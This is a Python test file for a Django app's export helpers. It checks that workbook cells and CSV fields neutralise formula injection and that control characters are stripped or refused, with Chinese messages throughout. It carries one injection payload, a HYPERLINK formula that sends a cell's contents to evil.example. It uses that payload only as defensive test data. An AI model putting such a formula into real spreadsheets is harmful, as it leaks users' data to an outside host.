"""The safe text path: what a workbook cell and a CSV field hold, and what a form refuses."""

from __future__ import annotations

import io

import pytest
from django import forms
from django.utils import translation
from openpyxl import Workbook, load_workbook

from showroom.core.text import (
    append_row,
    cell_text,
    control_character_error,
    csv_read,
    csv_text,
    protect_workbook,
    put,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"点击")'


@pytest.fixture(autouse=True)
def chinese():  # type: ignore[no-untyped-def]
    # The messages are read outside a request: in the product's language, whatever ran before.
    with translation.override("zh-hans"):
        yield


def reread(workbook: Workbook) -> Workbook:
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    return load_workbook(buffer)


def test_formula_triggers_stay_text_and_numbers_stay_numbers():
    workbook = Workbook()
    ws = workbook.active
    append_row(ws, [HYPERLINK, "+1", "-1+2", "@SUM(A1)", "\tx", "#N/A", -5, "-5", "王先生"])
    put(ws, 2, 1, "=1+1")
    back = reread(workbook).active
    cells = back[1]
    assert [c.value for c in cells] == [HYPERLINK, "+1", "-1+2", "@SUM(A1)", "\tx", "#N/A",
                                        -5, "-5", "王先生"]  # fmt: skip
    assert [c.data_type for c in cells] == ["s", "s", "s", "s", "s", "s", "n", "s", "s"]
    # "+1" and "-5" are plain numbers: no spreadsheet runs them
    prefixed = [True, False, True, True, True, True, False, False, False]
    assert [c.quotePrefix for c in cells] == prefixed
    assert (back["A2"].value, back["A2"].data_type) == ("=1+1", "s")


def test_a_formula_written_past_the_path_is_text_once_protected():
    workbook = Workbook()
    workbook.active["A1"] = "=1+1"
    assert workbook.active["A1"].data_type == "f"
    assert reread(protect_workbook(workbook)).active["A1"].data_type == "s"


def test_control_characters_are_left_out_of_a_cell():
    assert cell_text("控制\x01符\x00") == "控制符"
    assert cell_text("a\tb\nc") == "a\tb\nc"
    assert cell_text("_x0041_") == "_x005F_x0041_"  # read back as _x0041_, not "A"
    assert cell_text(-3) == -3


@pytest.mark.parametrize(
    ("value", "field"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("@x", "'@x"),
        ("\r=1", "'\r=1"),
        ("'quoted", "''quoted"),
        ("-5", "-5"),
        ("+3.5", "+3.5"),
        ("王先生", "王先生"),
        ("控制\x01符", "控制符"),
    ],
)
def test_csv_fields_round_trip(value, field):
    assert csv_text(value) == field
    assert csv_read(field) == value.replace("\x01", "")


def test_control_character_reasons():
    assert control_character_error("王先生\n二行") is None
    assert control_character_error("_x0041_ _x0009_ _x000A_") is None  # "A", tab, line feed
    for text in ("a\x00b", "a\x01", "\x7f", "_x0001_", "_x001b_", "_x007F_", "\ud800"):
        assert control_character_error(text) == "文本中不能含有控制字符。"


def test_every_form_char_field_refuses_control_characters():
    class Any(forms.Form):
        name = forms.CharField()
        notes = forms.CharField(widget=forms.Textarea, required=False)

    form = Any(data={"name": "控制\x01符", "notes": "第一行\r\n第二行\t"})
    assert not form.is_valid()
    assert form.errors == {"name": ["文本中不能含有控制字符。"]}
    assert Any(data={"name": "王先生", "notes": "第一行\r\n第二行\t"}).is_valid()
